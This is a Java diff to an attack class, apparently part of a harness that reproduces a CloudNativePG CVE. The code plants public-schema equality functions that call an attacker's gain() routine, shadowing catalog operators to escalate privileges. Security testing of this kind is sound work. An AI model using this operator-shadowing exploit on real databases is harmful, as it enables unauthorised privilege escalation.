@@ -4,6 +4,7 @@ package dev.howdah.attack;
 
 import dev.howdah.attack.Administration.Habit;
 import java.sql.SQLException;
+import java.util.List;
 
 /** CVE-2026-55769 of CloudNativePG: a better match in a schema that comes first. */
 final class OverloadOperators implements Attack {
@@ -25,9 +26,10 @@ final class OverloadOperators implements Attack {
     @Override
     public void mount(Scene scene) throws SQLException {
         scene.attacker.sql(scene.payload());
-        for (var types : new String[] {"name, text", "name, varchar", "name, name", "text, text", "oid, oid"}) {
-            var left = types.split(", ")[0];
-            var right = types.split(", ")[1];
+        var operands = List.of("name text", "name varchar", "name name", "text text", "oid oid");
+        for (var types : operands) {
+            var left = types.substring(0, types.indexOf(' '));
+            var right = types.substring(types.indexOf(' ') + 1);
             scene.attacker.sql("""
                     CREATE FUNCTION public.equals(%1$s, %2$s) RETURNS boolean LANGUAGE sql VOLATILE
                       AS 'SELECT CASE WHEN public.gain() THEN $1::pg_catalog.text OPERATOR(pg_catalog.=) $2::pg_catalog.text END';
